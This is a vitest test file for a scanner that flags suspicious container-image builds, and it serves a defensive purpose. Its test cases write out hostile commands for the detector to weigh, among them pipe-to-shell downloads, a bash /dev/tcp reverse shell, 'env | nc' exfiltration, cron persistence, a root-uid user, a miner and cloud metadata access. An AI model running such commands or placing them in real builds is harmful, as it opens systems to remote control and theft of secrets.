import { describe, expect, it } from 'vitest';
import type { ImageBuildSteps, ImageBuilds } from '../model/generated/tables.js';
import { openCase } from './case.js';
import { evidenceRules } from './evidence/index.js';
import { defaultSettings } from './settings.js';

interface Story {
  dockerfile?: string;
  steps?: { command: string; ran?: string[] }[];
  tags?: string[];
  method?: string;
}

/** What the evidence that rests on text weighs. */
function weights({ dockerfile = '', steps = [], tags = [], method = 'build' }: Story) {
  const build: ImageBuilds = {
    TimeGenerated: 0,
    BuildId: 'b-1',
    Method: method,
    Dockerfile: dockerfile,
    Tags: tags,
    AdditionalFields: {},
  };
  const rows = steps.map(
    ({ command, ran = [] }, index): ImageBuildSteps => ({
      TimeGenerated: index,
      BuildId: 'b-1',
      StepId: String(index),
      StepIndex: index,
      Command: command,
      Processes: ran.map((CommandLine, at) => ({
        FileName: CommandLine.split(' ')[0] ?? '',
        CommandLine,
        StartTime: at * 1000,
      })),
    }),
  );
  const subject = openCase(build, rows, defaultSettings);
  const found = evidenceRules.flatMap(({ id, find }) => {
    const finding = find(subject);
    return finding ? [[id, finding.weight, finding.explanation] as const] : [];
  });
  return {
    of: Object.fromEntries(found.map(([id, weight]) => [id, weight])),
    told: Object.fromEntries(found.map(([id, , explanation]) => [id, explanation])),
  };
}

const far = 'http://203.0.113.9/x';

describe('a download that is run', () => {
  it.each([
    [{ steps: [{ command: `wget -qO- ${far} | sh` }] }, 3],
    [{ steps: [{ command: 'curl https://get.example.org/i | sh' }] }, 1],
    [{ steps: [{ command: 'curl -k https://get.example.org/i | sh' }] }, 3],
    [{ steps: [{ command: 'curl https://pastebin.com/raw/abc | sh' }] }, 3],
    [{ steps: [{ command: 'curl -o /tmp/.x/y https://example.org/y && sh /tmp/.x/y' }] }, 3],
    [{ steps: [{ command: 'curl $URL | sh' }] }, 3],
    [{ steps: [{ command: 'sh', ran: ['sh', `wget -qO- ${far}`, 'sh'] }] }, 3],
    [
      { steps: [{ command: 'sh', ran: ['sh', 'wget -qO- http://203.0.113.9', '/bin/bash -s a'] }] },
      3,
    ],
    [{ steps: [{ command: '/i.sh', ran: ['curl -fsSL https://get.example.org/i', 'bash'] }] }, 1],
    [
      {
        steps: [
          { command: '/i.sh', ran: [`wget -qO /bin/x ${far}`, 'chmod +x /bin/x', '/bin/x -v'] },
        ],
      },
      3,
    ],
    [{ steps: [{ command: '/i.sh', ran: ['sh', `wget -qO- ${far}`, 'sed s/a/b/'] }] }, undefined],
    [{ steps: [{ command: '/i.sh', ran: [`wget -qO x.deb ${far}`, 'ls'] }] }, undefined],
    [{ steps: [{ command: 'curl $URL | sh', ran: ['curl https://get.example.org/i'] }] }, 1],
    [{ steps: [{ command: 'curl $URL | sh', ran: [`curl ${far}`] }] }, 3],
    [
      { steps: [{ command: `wget ${far} -O /m` }, { command: 'chmod +x /m' }, { command: '/m' }] },
      3,
    ],
    [
      { steps: [{ command: 'curl -L https://example.org/a.tgz | tar xz && cd a && make' }] },
      undefined,
    ],
    [
      { steps: [{ command: 'curl -o i https://example.org/i; echo "a  i" | sha256sum -c; sh i' }] },
      undefined,
    ],
    [
      {
        dockerfile: 'FROM a\nARG H=203.0.113.9\nRUN curl $H/x | sh',
        steps: [{ command: 'curl $H/x | sh' }],
      },
      3,
    ],
    [
      {
        dockerfile: 'FROM a\nENV H=https://get.example.org\nRUN curl $H/x | sh',
        steps: [{ command: 'curl $H/x | sh' }],
      },
      1,
    ],
    [{ dockerfile: `FROM a\nADD ${far} /x\nCMD ["/x"]` }, 3],
  ])('%j weighs %s', (story: Story, weight) => {
    expect(weights(story).of['download-executed']).toBe(weight);
  });

  it('is told by its step, or by its line where no step was seen to run it', () => {
    const dockerfile = `FROM a\nRUN true\nRUN curl ${far} | sh`;
    const steps = [{ command: `curl ${far} | sh` }];
    expect(weights({ dockerfile }).told['download-executed']).toMatch(
      /^Line 3 of its Dockerfile pipes/,
    );
    expect(weights({ dockerfile, steps }).told['download-executed']).toMatch(/^Step 1 pipes/);
  });
});

it.each([
  ['decoded-into-shell', 'echo ZWNobyBoaQ== | base64 -d | sh', 3],
  ['miner', './m -o stratum+tcp://pool.example.org:3333', 4],
  ['remote-access', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 3],
  ['reaches-host', 'curl --unix-socket /var/run/docker.sock http://x/version', 3],
  ['reaches-host', 'curl http://169.254.169.254/latest/', 3],
  ['persistence', `echo "* * * * * root curl ${far} | sh" > /etc/cron.d/x`, 3],
  ['persistence', 'chmod u+s /usr/bin/x', 1],
  ['persistence', 'crontab /etc/jobs', undefined],
  ['persistence', 'useradd -o -u 0 x', 3],
  ['data-sent', 'env | nc 203.0.113.9 80', 3],
  ['tls-unchecked', 'wget --no-check-certificate https://example.org/a', 1],
  ['raw-address', `curl -O ${far}`, 2],
])('%s: %s weighs %s', (id, command, weight) => {
  expect(weights({ steps: [{ command }] }).of[id]).toBe(weight);
});

it.each<[string, Story, number | undefined]>([
  ['onbuild-trap', { dockerfile: `FROM a\nONBUILD RUN curl ${far} | sh` }, 3],
  ['lookalike-name', { dockerfile: 'FROM ngnix' }, 3],
  ['lookalike-name', { tags: ['docker.io/library/nginx:latest'] }, 2],
  ['lookalike-name', { tags: ['docker.io/library/ngnix:latest'] }, 3],
  ['lookalike-name', { tags: ['docker.io/library/shop:latest'] }, undefined],
  ['lookalike-name', { tags: ['docker.io/library/nginx:latest'], method: 'load' }, undefined],
])('%s of %j weighs %s', (id, story, weight) => {
  expect(weights(story).of[id]).toBe(weight);
});

it('finds nothing in an ordinary build', () => {
  const dockerfile = `FROM node:20-alpine
RUN apk add --no-cache curl && curl -fsSL https://example.org/key.asc | gpg --import
WORKDIR /app
COPY package*.json ./
RUN npm ci --omit=dev
COPY . .
CMD ["node", "server.js"]
`;
  expect(weights({ dockerfile, tags: ['docker.io/library/shop:1'] }).of).toEqual({});
});
